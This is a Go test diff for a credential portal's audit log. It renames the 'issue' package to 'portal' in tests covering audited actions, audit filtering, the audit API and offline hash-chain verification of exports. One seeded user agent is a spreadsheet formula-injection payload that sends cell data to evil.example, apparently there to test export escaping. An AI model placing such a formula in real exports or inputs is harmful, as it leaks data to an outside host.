@@ -19,7 +19,7 @@ import (
 
 	"filippo.io/age"
 
-	"github.com/2i2c-org/credential-portal/internal/issue"
+	"github.com/2i2c-org/credential-portal/internal/portal"
 	"github.com/2i2c-org/credential-portal/internal/store"
 )
 
@@ -28,8 +28,8 @@ import (
 // events the table test checks.
 type auditWorld struct {
 	t          *testing.T
-	p          *portal
-	cluster    *issue.Cluster
+	p          *testPortal
+	cluster    *portal.Cluster
 	alice, sam *browser
 	aliceID    int64
 	samID      int64
@@ -83,7 +83,7 @@ type storedEvent struct {
 	ID          int64
 	Actor       string
 	ActorID     *int64
-	Action      issue.Action
+	Action      portal.Action
 	SubjectType string
 	SubjectID   *int64
 	ClusterID   *int64
@@ -159,7 +159,7 @@ func collectStrings(rows interface {
 // wantEvent is an audit event an action must write. Details lists the keys
 // that must be there with these values; others may be there too.
 type wantEvent struct {
-	action      issue.Action
+	action      portal.Action
 	actor       string
 	actorID     int64 // 0: no user
 	subjectType string
@@ -187,15 +187,15 @@ func TestEveryActionIsAudited(t *testing.T) {
 			b := w.p.browser()
 			b.signIn("alice@example.org")
 			w.collectSecrets(b)
-			return []wantEvent{{action: issue.ActionSignedIn, actor: "alice@example.org", actorID: w.aliceID,
-				subjectType: issue.SubjectUser, subjectID: w.aliceID, details: map[string]any{"role": "customer"}}}
+			return []wantEvent{{action: portal.ActionSignedIn, actor: "alice@example.org", actorID: w.aliceID,
+				subjectType: portal.SubjectUser, subjectID: w.aliceID, details: map[string]any{"role": "customer"}}}
 		}},
 		{name: "sign-out", act: func(t *testing.T, w *auditWorld) []wantEvent {
 			page := w.alice.get("/dashboard")
 			w.collectSecrets()
 			w.alice.post("/logout", url.Values{"csrf": {csrfToken(t, page.Body)}})
-			return []wantEvent{{action: issue.ActionSignedOut, actor: "alice@example.org", actorID: w.aliceID,
-				subjectType: issue.SubjectUser, subjectID: w.aliceID, noDetails: true}}
+			return []wantEvent{{action: portal.ActionSignedOut, actor: "alice@example.org", actorID: w.aliceID,
+				subjectType: portal.SubjectUser, subjectID: w.aliceID, noDetails: true}}
 		}},
 		{name: "failed sign-in: wrong state", act: func(t *testing.T, w *auditWorld) []wantEvent {
 			b := w.p.browser()
@@ -206,7 +206,7 @@ func TestEveryActionIsAudited(t *testing.T) {
 			}
 			w.collectSecrets(b)
 			w.secrets = append(w.secrets, "forged-state", "stolen-code")
-			return []wantEvent{{action: issue.ActionSignInFailed, actor: issue.ActorAnonymous,
+			return []wantEvent{{action: portal.ActionSignInFailed, actor: portal.ActorAnonymous,
 				details: map[string]any{"reason": "state does not match this browser's sign-in"}}}
 		}},
 		{name: "refused: customer on a staff API", act: func(t *testing.T, w *auditWorld) []wantEvent {
@@ -214,7 +214,7 @@ func TestEveryActionIsAudited(t *testing.T) {
 				t.Errorf("customer on /api/v1/audit: %d, want 403", r.StatusCode)
 			}
 			w.collectSecrets()
-			return []wantEvent{{action: issue.ActionAccessRefused, actor: "alice@example.org", actorID: w.aliceID,
+			return []wantEvent{{action: portal.ActionAccessRefused, actor: "alice@example.org", actorID: w.aliceID,
 				details: map[string]any{"method": "GET", "path": "/api/v1/audit"}}}
 		}},
 		{name: "request created", act: func(t *testing.T, w *auditWorld) []wantEvent {
@@ -224,16 +224,16 @@ func TestEveryActionIsAudited(t *testing.T) {
 			if fp != 1 {
 				t.Fatal("the request has no fingerprint")
 			}
-			return []wantEvent{{action: issue.ActionRequestCreated, actor: "alice@example.org", actorID: w.aliceID,
-				subjectType: issue.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID,
+			return []wantEvent{{action: portal.ActionRequestCreated, actor: "alice@example.org", actorID: w.aliceID,
+				subjectType: portal.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID,
 				details: map[string]any{"cluster": "awi-ciroh", "key_type": "age-x25519"}}}
 		}},
 		{name: "request cancelled", setup: (*auditWorld).request, act: func(t *testing.T, w *auditWorld) []wantEvent {
 			page := w.alice.get(fmt.Sprintf("/requests/%d", w.requestID))
 			w.alice.post(fmt.Sprintf("/requests/%d/cancel", w.requestID), url.Values{"csrf": {csrfToken(t, page.Body)}})
 			w.collectSecrets()
-			return []wantEvent{{action: issue.ActionRequestCancelled, actor: "alice@example.org", actorID: w.aliceID,
-				subjectType: issue.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID, noDetails: true}}
+			return []wantEvent{{action: portal.ActionRequestCancelled, actor: "alice@example.org", actorID: w.aliceID,
+				subjectType: portal.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID, noDetails: true}}
 		}},
 		{name: "request approved, credential issued", setup: (*auditWorld).request, act: func(t *testing.T, w *auditWorld) []wantEvent {
 			w.sam.approve(w.requestID, "welcome aboard")
@@ -244,11 +244,11 @@ func TestEveryActionIsAudited(t *testing.T) {
 				t.Fatal(err)
 			}
 			return []wantEvent{
-				{action: issue.ActionRequestApproved, actor: "sam@2i2c.org", actorID: w.samID,
-					subjectType: issue.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID,
+				{action: portal.ActionRequestApproved, actor: "sam@2i2c.org", actorID: w.samID,
+					subjectType: portal.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID,
 					details: map[string]any{"note": "welcome aboard"}},
-				{action: issue.ActionCredentialIssued, actor: "sam@2i2c.org", actorID: w.samID,
-					subjectType: issue.SubjectCredential, subjectID: credID, clusterID: w.cluster.ID,
+				{action: portal.ActionCredentialIssued, actor: "sam@2i2c.org", actorID: w.samID,
+					subjectType: portal.SubjectCredential, subjectID: credID, clusterID: w.cluster.ID,
 					details: map[string]any{"request_id": w.requestID, "username": username}},
 			}
 		}},
@@ -256,15 +256,15 @@ func TestEveryActionIsAudited(t *testing.T) {
 			q := w.sam.get("/staff/requests")
 			w.sam.post(fmt.Sprintf("/staff/requests/%d/deny", w.requestID), url.Values{"csrf": {csrfToken(t, q.Body)}, "note": {"Use the shared Grafana."}})
 			w.collectSecrets()
-			return []wantEvent{{action: issue.ActionRequestDenied, actor: "sam@2i2c.org", actorID: w.samID,
-				subjectType: issue.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID,
+			return []wantEvent{{action: portal.ActionRequestDenied, actor: "sam@2i2c.org", actorID: w.samID,
+				subjectType: portal.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID,
 				details: map[string]any{"note": "Use the shared Grafana."}}}
 		}},
 		{name: "credential downloaded", setup: (*auditWorld).issued, act: func(t *testing.T, w *auditWorld) []wantEvent {
 			w.alice.download(w.requestID)
 			w.collectSecrets()
-			return []wantEvent{{action: issue.ActionCredentialDownloaded, actor: "alice@example.org", actorID: w.aliceID,
-				subjectType: issue.SubjectCredential, subjectID: w.credentialID, clusterID: w.cluster.ID,
+			return []wantEvent{{action: portal.ActionCredentialDownloaded, actor: "alice@example.org", actorID: w.aliceID,
+				subjectType: portal.SubjectCredential, subjectID: w.credentialID, clusterID: w.cluster.ID,
 				details: map[string]any{"download": 1}}}
 		}},
 		{name: "cluster created", act: func(t *testing.T, w *auditWorld) []wantEvent {
@@ -277,8 +277,8 @@ func TestEveryActionIsAudited(t *testing.T) {
 			}
 			w.collectSecrets()
 			id := int64(w.p.count(`SELECT id FROM clusters WHERE name = 'leap'`))
-			return []wantEvent{{action: issue.ActionClusterCreated, actor: "sam@2i2c.org", actorID: w.samID,
-				subjectType: issue.SubjectCluster, subjectID: id, clusterID: id,
+			return []wantEvent{{action: portal.ActionClusterCreated, actor: "sam@2i2c.org", actorID: w.samID,
+				subjectType: portal.SubjectCluster, subjectID: id, clusterID: id,
 				details: map[string]any{"name": "leap", "credential_ttl_days": 30, "prometheus_url": "https://prometheus.leap.2i2c.cloud"}}}
 		}},
 		{name: "cluster updated", act: func(t *testing.T, w *auditWorld) []wantEvent {
@@ -287,24 +287,24 @@ func TestEveryActionIsAudited(t *testing.T) {
 				"display_name": {w.cluster.DisplayName}, "prometheus_url": {w.cluster.PrometheusURL},
 				"credential_ttl_days": {"60"}, "note": {w.cluster.Note}, "enabled": {"on"}})
 			w.collectSecrets()
-			return []wantEvent{{action: issue.ActionClusterUpdated, actor: "sam@2i2c.org", actorID: w.samID,
-				subjectType: issue.SubjectCluster, subjectID: w.cluster.ID, clusterID: w.cluster.ID,
+			return []wantEvent{{action: portal.ActionClusterUpdated, actor: "sam@2i2c.org", actorID: w.samID,
+				subjectType: portal.SubjectCluster, subjectID: w.cluster.ID, clusterID: w.cluster.ID,
 				details: map[string]any{"name": "awi-ciroh", "credential_ttl_days": []any{90, 60}}}}
 		}},
 		{name: "credential revoked by staff", setup: (*auditWorld).issued, act: func(t *testing.T, w *auditWorld) []wantEvent {
 			page := w.sam.get(fmt.Sprintf("/credentials/%d", w.credentialID))
 			w.sam.post(fmt.Sprintf("/credentials/%d/revoke", w.credentialID), url.Values{"csrf": {csrfToken(t, page.Body)}, "reason": {"left the project"}})
 			w.collectSecrets()
-			return []wantEvent{{action: issue.ActionCredentialRevoked, actor: "sam@2i2c.org", actorID: w.samID,
-				subjectType: issue.SubjectCredential, subjectID: w.credentialID, clusterID: w.cluster.ID,
+			return []wantEvent{{action: portal.ActionCredentialRevoked, actor: "sam@2i2c.org", actorID: w.samID,
+				subjectType: portal.SubjectCredential, subjectID: w.credentialID, clusterID: w.cluster.ID,
 				details: map[string]any{"reason": "left the project", "by_owner": false}}}
 		}},
 		{name: "credential reported compromised", setup: (*auditWorld).issued, act: func(t *testing.T, w *auditWorld) []wantEvent {
 			page := w.alice.get(fmt.Sprintf("/credentials/%d", w.credentialID))
 			w.alice.post(fmt.Sprintf("/credentials/%d/report-compromised", w.credentialID), url.Values{"csrf": {csrfToken(t, page.Body)}, "details": {"pasted in a public notebook"}})
 			w.collectSecrets()
-			return []wantEvent{{action: issue.ActionCredentialCompromised, actor: "alice@example.org", actorID: w.aliceID,
-				subjectType: issue.SubjectCredential, subjectID: w.credentialID, clusterID: w.cluster.ID,
+			return []wantEvent{{action: portal.ActionCredentialCompromised, actor: "alice@example.org", actorID: w.aliceID,
+				subjectType: portal.SubjectCredential, subjectID: w.credentialID, clusterID: w.cluster.ID,
 				details: map[string]any{"by_owner": true}}}
 		}},
 		{name: "credential renewed", setup: (*auditWorld).issued, act: func(t *testing.T, w *auditWorld) []wantEvent {
@@ -317,8 +317,8 @@ func TestEveryActionIsAudited(t *testing.T) {
 			var id int64
 			fmt.Sscan(m[1], &id)
 			w.collectSecrets()
-			return []wantEvent{{action: issue.ActionRequestCreated, actor: "alice@example.org", actorID: w.aliceID,
-				subjectType: issue.SubjectRequest, subjectID: id, clusterID: w.cluster.ID,
+			return []wantEvent{{action: portal.ActionRequestCreated, actor: "alice@example.org", actorID: w.aliceID,
+				subjectType: portal.SubjectRequest, subjectID: id, clusterID: w.cluster.ID,
 				details: map[string]any{"cluster": "awi-ciroh", "renews_credential_id": w.credentialID}}}
 		}},
 		{name: "cluster sync token rotated", act: func(t *testing.T, w *auditWorld) []wantEvent {
@@ -330,8 +330,8 @@ func TestEveryActionIsAudited(t *testing.T) {
 			}
 			w.secrets = append(w.secrets, token)
 			w.collectSecrets()
-			return []wantEvent{{action: issue.ActionClusterSyncTokenRotated, actor: "sam@2i2c.org", actorID: w.samID,
-				subjectType: issue.SubjectCluster, subjectID: w.cluster.ID, clusterID: w.cluster.ID,
+			return []wantEvent{{action: portal.ActionClusterSyncTokenRotated, actor: "sam@2i2c.org", actorID: w.samID,
+				subjectType: portal.SubjectCluster, subjectID: w.cluster.ID, clusterID: w.cluster.ID,
 				details: map[string]any{"cluster": "awi-ciroh", "replaced_earlier_token": false}}}
 		}},
 	}
@@ -346,7 +346,7 @@ func TestEveryActionIsAudited(t *testing.T) {
 			want := tt.act(t, w)
 			got := w.eventsAfter(mark)
 			if len(got) != len(want) {
-				var actions []issue.Action
+				var actions []portal.Action
 				for _, e := range got {
 					actions = append(actions, e.Action)
 				}
@@ -393,14 +393,14 @@ func checkEvent(t *testing.T, got storedEvent, want wantEvent) {
 
 // seedAudit appends n events straight to the store, as varied as the review
 // needs, and returns them oldest first.
-func seedAudit(t *testing.T, p *portal, n int, vary func(i int, e *issue.AuditEvent)) []*issue.AuditEvent {
+func seedAudit(t *testing.T, p *testPortal, n int, vary func(i int, e *portal.AuditEvent)) []*portal.AuditEvent {
 	t.Helper()
 	ctx := context.Background()
-	var out []*issue.AuditEvent
+	var out []*portal.AuditEvent
 	err := p.Store.InTx(ctx, func(tx *store.Store) error {
 		for i := range n {
-			e := &issue.AuditEvent{Actor: fmt.Sprintf("user%d@example.org", i%3), Action: issue.ActionSignedIn,
-				SubjectType: issue.SubjectUser, Details: map[string]any{"i": i}, IP: "192.0.2.1", UserAgent: "seed"}
+			e := &portal.AuditEvent{Actor: fmt.Sprintf("user%d@example.org", i%3), Action: portal.ActionSignedIn,
+				SubjectType: portal.SubjectUser, Details: map[string]any{"i": i}, IP: "192.0.2.1", UserAgent: "seed"}
 			if vary != nil {
 				vary(i, e)
 			}
@@ -492,7 +492,7 @@ func TestAuditPageFiltersAndPages(t *testing.T) {
 			next = strings.ReplaceAll(m[1], "&amp;", "&")
 		}
 		if pages == 0 {
-			seedAudit(t, p, 5, func(_ int, e *issue.AuditEvent) { e.Actor = "late@example.org" })
+			seedAudit(t, p, 5, func(_ int, e *portal.AuditEvent) { e.Actor = "late@example.org" })
 		}
 	}
 	// sam's own sign-in is the oldest event; the 120 come after it.
@@ -524,12 +524,12 @@ func TestAuditAPI(t *testing.T) {
 	sam := p.browser()
 	sam.signIn("sam@2i2c.org")
 	from := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
-	seedAudit(t, p, 30, func(i int, e *issue.AuditEvent) {
+	seedAudit(t, p, 30, func(i int, e *portal.AuditEvent) {
 		e.At = from.Add(time.Duration(i) * 24 * time.Hour) // 1 to 30 January
 		if i%2 == 0 {
-			e.Action, e.ClusterID = issue.ActionRequestCreated, &leap.ID
+			e.Action, e.ClusterID = portal.ActionRequestCreated, &leap.ID
 			subject := int64(100 + i)
-			e.SubjectType, e.SubjectID = issue.SubjectRequest, &subject
+			e.SubjectType, e.SubjectID = portal.SubjectRequest, &subject
 			e.Details = map[string]any{"i": i, "note": fmt.Sprintf("100%% sure, number_%d", i)}
 		}
 	})
@@ -569,7 +569,7 @@ func TestAuditAPI(t *testing.T) {
 
 	// An event carries what a reviewer and a verifier need.
 	e := get("subject_type=request&subject_id=104").Events[0]
-	if e.Cluster != "leap" || e.ClusterID == nil || *e.ClusterID != leap.ID || e.Action != issue.ActionRequestCreated ||
+	if e.Cluster != "leap" || e.ClusterID == nil || *e.ClusterID != leap.ID || e.Action != portal.ActionRequestCreated ||
 		e.At != "2026-01-05T00:00:00.000000Z" || len(e.Hash) != 64 || len(e.PrevHash) != 64 || e.IP != "192.0.2.1" || e.UserAgent != "seed" {
 		t.Errorf("event as the API shows it: %+v", e)
 	}
@@ -649,7 +649,7 @@ type exportLine struct {
 // the first event that does not check out, or 0.
 func verifyOffline(t *testing.T, lines []exportLine, linked bool) int64 {
 	t.Helper()
-	prev := hex.EncodeToString(issue.GenesisHash())
+	prev := hex.EncodeToString(portal.GenesisHash())
 	for _, l := range lines {
 		at, err := time.Parse(time.RFC3339Nano, l.At)
 		if err != nil {
@@ -661,7 +661,7 @@ func verifyOffline(t *testing.T, lines []exportLine, linked bool) int64 {
 		if err := dec.Decode(&details); err != nil {
 			t.Fatalf("event %d: details: %v", l.ID, err)
 		}
-		e := issue.AuditEvent{At: at, ActorID: l.ActorID, Actor: l.Actor, Action: issue.Action(l.Action), SubjectType: l.SubjectType,
+		e := portal.AuditEvent{At: at, ActorID: l.ActorID, Actor: l.Actor, Action: portal.Action(l.Action), SubjectType: l.SubjectType,
 			SubjectID: l.SubjectID, ClusterID: l.ClusterID, Details: details, IP: l.IP, UserAgent: l.UserAgent}
 		prevHash, err := hex.DecodeString(l.PrevHash)
 		if err != nil {
@@ -686,7 +686,7 @@ func TestAuditExportsVerifyOffline(t *testing.T) {
 	sam.signIn("sam@2i2c.org")
 	// More events than one flush, one with a user agent a spreadsheet would
 	// run as a formula, one with a number beyond float64's digits.
-	seedAudit(t, p, 2345, func(i int, e *issue.AuditEvent) {
+	seedAudit(t, p, 2345, func(i int, e *portal.AuditEvent) {
 		switch i {
 		case 7:
 			e.UserAgent = `=HYPERLINK("https://evil.example/?"&A1,"click")`
